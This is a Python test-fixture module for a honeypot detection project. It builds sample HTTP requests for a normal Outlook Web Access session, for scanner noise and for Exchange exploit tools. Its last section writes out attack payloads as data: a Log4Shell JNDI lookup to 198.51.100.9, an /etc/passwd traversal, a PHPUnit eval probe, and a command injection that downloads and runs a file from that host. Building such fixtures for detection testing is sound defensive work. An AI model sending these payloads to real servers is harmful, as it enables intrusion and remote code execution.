"""Request sequences for detection tests and the benchmark: what a legitimate OWA user sends, the
background noise every Internet-facing server gets, and the exploit tools' requests.

``replay`` (``honeyscope.detect.samples``) turns them into events through the real persona.
"""

from __future__ import annotations

from typing import Final

from honeyscope.detect.samples import SampleRequest
from honeyscope.testing import exploits

BROWSER: Final = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91")
BUILD3: Final = "15.1.2176"
_CADATA: Final = ("cadata=1VZvaIlmGSQpbbPKQkmK+Ue9JKB7z4fJyQuEG1BxkQh0=; cadataTTL=NfDhBViTJ7TGDqhvpkrZKg==; "
                  "cadataKey=M2JkdGhYcUdVaU1tZ0Y=; cadataIV=ZXZvR3dCb2JqN0o=; cadataSig=WZSS8C+Pvfbi+Q==")
_CANARY: Final = "fWMP7TiZPkOqY9qLTdmDBnAe5Utu8dUIxpj1as6RiqtcOsHmNA5E02xEznAqBU31oHK-G3cXk0E."


Headers = tuple[tuple[str, str], ...]


def _browser(accept: str = "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
             cookie: str = "", referer: str = "", extra: Headers = ()) -> Headers:
    headers = [("User-Agent", BROWSER), ("Accept", accept), ("Accept-Language", "en-GB,en;q=0.9"),
               ("Accept-Encoding", "gzip, deflate, br"), ("Sec-Fetch-Site", "same-origin")]
    if referer:
        headers.append(("Referer", f"https://mail.contoso.com{referer}"))
    if cookie:
        headers.append(("Cookie", cookie))
    return (*headers, *extra)


def legitimate_owa_session() -> list[SampleRequest]:
    """A user opening OWA in a browser: redirects, sign-in page and its assets, a successful-looking sign-in
    POST, then the mailbox (inbox, reading messages, an attachment, notifications) and signing out."""
    logon = "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0"
    pre = "ClientId=7E8F2F2A1B7C4D6A9E3F5B1C2D3E4F50; PrivateComputer=true; PBack=0"
    session = f"{pre}; {_CADATA}; X-OWA-CANARY={_CANARY}; UC=d4c8c3f2e1a04b5c9d8e7f6a5b4c3d2e; " \
              f"AppcacheVer={BUILD3}.2:en-gbbase; X-BackEndCookie=S-1-5-21-1-2-3-1107=u56Lnp2ejJqBzJ3Ny5s="
    asset = f"/owa/auth/{BUILD3}/themes/resources"
    requests = [
        SampleRequest("GET", "/", _browser()),
        SampleRequest("GET", "/owa/", _browser()),
        SampleRequest("GET", logon, _browser(cookie=pre)),
        *(SampleRequest("GET", f"{asset}/{name}", _browser("*/*", pre, logon))
          for name in ("logon.css", "favicon.ico", "owa_text_blue.png", "segoeui-regular.ttf",
                       "segoeui-semilight.ttf", "sign_in_arrow.png")),
        SampleRequest("POST", "/owa/auth.owa", _browser(cookie=pre, referer=logon, extra=(
            ("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://mail.contoso.com"))),
            b"destination=https%3A%2F%2Fmail.contoso.com%2Fowa%2F&flags=4&forcedownlevel=0&"
            b"username=contoso%5Cjdoe&password=Spring-Garden-2021&passwordText=&isUtf8=1"),
        SampleRequest("GET", "/owa/", _browser(cookie=session, referer=logon)),
        SampleRequest("GET", f"/owa/{BUILD3}.2/scripts/boot.worldwide.0.mouse.js", _browser("*/*", session, "/owa/")),
        SampleRequest("GET", f"/owa/prem/{BUILD3}.2/resources/styles/0/boot.worldwide.mouse.css",
                      _browser("text/css,*/*;q=0.1", session, "/owa/")),
    ]
    for action, body in (
        ("GetOwaUserConfiguration", b'{"__type":"GetOwaUserConfigurationRequest:#Exchange"}'),
        ("FindFolder", b'{"__type":"FindFolderJsonRequest:#Exchange","Body":{"Traversal":"Deep"}}'),
        ("FindItem", b'{"__type":"FindItemJsonRequest:#Exchange","Body":{"ParentFolderIds":[{"Id":"inbox"}],'
                     b'"Paging":{"MaxEntriesReturned":25,"Offset":0}}}'),
        ("GetItem", b'{"__type":"GetItemJsonRequest:#Exchange","Body":{"ItemIds":[{"Id":"AAMkADk3NDI0ZjM="}],'
                    b'"ItemShape":{"BaseShape":"IdOnly","AddBlankTargetToLinks":true}}}'),
        ("UpdateItem", b'{"__type":"UpdateItemJsonRequest:#Exchange","Body":{"ItemChanges":[{"Updates":'
                       b'[{"Path":{"FieldURI":"IsRead"},"Item":{"IsRead":true}}]}]}}'),
    ):
        headers = _browser("*/*", session, "/owa/", (
            ("Action", action), ("X-OWA-CANARY", _CANARY), ("X-Requested-With", "XMLHttpRequest"),
            ("Content-Type", "application/json; charset=UTF-8"), ("X-OWA-ActionName", f"{action}Action")))
        requests.append(SampleRequest("POST", f"/owa/service.svc?action={action}&app=Mail&n=12", headers, body))
    requests += [
        SampleRequest("GET", "/owa/service.svc/s/GetFileAttachment?id=AAMkADk3NDI0ZjM%3D&X-OWA-CANARY="
                      f"{_CANARY}", _browser("*/*", session, "/owa/")),
        SampleRequest("POST", "/owa/ev.owa2?ns=PendingRequest&ev=FinishNotificationRequest&UA=0&cid=12&n=3",
                      _browser("*/*", session, "/owa/", (("X-OWA-CANARY", _CANARY),)), b""),
        SampleRequest("GET", "/owa/?path=/mail/inbox", _browser(cookie=session, referer="/owa/")),
        SampleRequest("POST", "/owa/sessiondata.ashx?appcacheclient=0", _browser("*/*", session, "/owa/"), b""),
        SampleRequest("GET", f"{asset}/thinking16_grey.gif", _browser("image/*", session, "/owa/")),
        SampleRequest("GET", "/owa/logoff.owa", _browser(cookie=session, referer="/owa/")),
        SampleRequest("GET", "/owa/auth/logoff.aspx?Cmd=logoff&src=exch", _browser(cookie=pre, referer="/owa/")),
    ]
    return requests


def scanner_noise() -> list[SampleRequest]:
    """Requests every Internet-facing server receives from crawlers and mass scanners (most are harmless)."""
    agents = ("curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1",
              "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Mozilla/5.0 zgrab/0.x",
              "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
    targets = ("/", "/robots.txt", "/favicon.ico", "/sitemap.xml", "/wp-login.php", "/admin/", "/login",
               "/owa/auth/logon.aspx", "/remote/login", "/api/v1/status", "/index.html", "/.well-known/security.txt",
               "/owa/", "/ecp/", "/autodiscover/autodiscover.xml", "/EWS/Exchange.asmx")
    return [SampleRequest("HEAD" if index % 7 == 3 else "GET", target, (("User-Agent", agents[index % len(agents)]),))
            for index, target in enumerate(targets)]


def exploit_steps() -> list[SampleRequest]:
    """One request of each public exploit tool and generic attack the pack knows."""
    fqdn = "exch01.contoso.local"
    sid = "S-1-5-21-3556931835-2135714726-3216061193-500"
    oab = ("OAB (Default Web Site)", "5b0e1c2d-1111-2222-3333-444455556666")
    built = [
        exploits.css_nse_check(), exploits.msf_proxylogon_check(), exploits.goby_check(), exploits.msf_rpc_fqdn(),
        exploits.msf_autodiscover(fqdn, "administrator@contoso.com"),
        exploits.msf_mapi(fqdn, "/o=First Organization/cn=admin", "1b2c@contoso.com"),
        exploits.msf_proxylogon(fqdn, sid, "administrator@contoso.com"),
        exploits.msf_set_external_url(fqdn, sid, "ASP.NET_SessionId=x;", "c", oab, "kQzv"),
        exploits.msf_reset_oab(fqdn, sid, "ASP.NET_SessionId=x;", "c", oab, "AbCd.aspx"),
        exploits.msf_execute("/owa/auth/AbCd.aspx", "kQzv", "cmd /c whoami"),
        exploits.gos_proxyshell_check(), exploits.msf_proxyshell("x@y.com", "/mapi/nspi/"),
        exploits.dma_post("kqzpa@mbxcv.xyz", "/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz", b"<s:Envelope/>",
                          "application/soap+xml"),
        exploits.nuclei_41040_check(), exploits.msf_viewstate_exploit("AAAA", "B97B4E27", "x=y"),
        exploits.nuclei_33766_check(), exploits.dma_exec("/aspnet_client/x.aspx", "zz", "whoami"),
    ]
    generic = [
        SampleRequest("GET", "/", (("User-Agent", "${jndi:ldap://198.51.100.9:1389/a}"),)),
        SampleRequest("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
        SampleRequest("GET", "/.env"),
        SampleRequest("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", (), b"<?php echo 1;"),
        SampleRequest("GET", "/shell?cd+/tmp;wget+http://198.51.100.9/x;sh+x"),
    ]
    return [SampleRequest(item.method, item.target, item.headers, item.body) for item in built] + generic
